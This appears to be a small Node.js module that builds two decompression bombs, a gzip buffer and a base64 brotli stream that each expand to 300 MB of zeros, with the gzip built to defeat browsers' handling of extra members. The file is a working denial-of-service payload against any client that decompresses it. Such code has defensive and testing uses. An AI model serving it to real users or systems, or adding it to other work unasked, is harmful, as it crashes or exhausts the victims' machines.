/** @module 300 MB of zeros, compressed. */

import { constants, deflateRawSync, gzipSync } from 'node:zlib'

const megabyte = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH })

/** In one member, as browsers ignore others. */
export const gzipBomb = Buffer.concat([
  gzipSync('').subarray(0, 10),
  ...Array.from({ length: 300 }, () => megabyte),
  deflateRawSync(''),
])

/** Made by brotli of quality 9, which takes a second. */
export const brotliBomb = Buffer.from(
  'z///fwAkAOKxQHLv//n//w+ABEAcFoDu/T////8BkACIwwLQvf/n//8/ABIAcVgAuvf//P//B0ACIA4LQPf+n////wBIAMRhAeje//P//x8ACYA4LADd' +
    '+3/+//8DIAEQhwWge//P//9/ACQA4rAAdO//+f//D4AEQBwWgO79P////wGQAIjDAtC9/+f//z8AEgBxWAC69//8//8HQAIgDgtA9/6f////AEgAxGEB' +
    '6N7/8///HwAJgDgsAN37f/7//wMgARCHBaB7/8///38AJADisAB07//5//8PgARAHBaA7v1//v//ApAAiMMC0L3/BQ==',
  'base64',
)
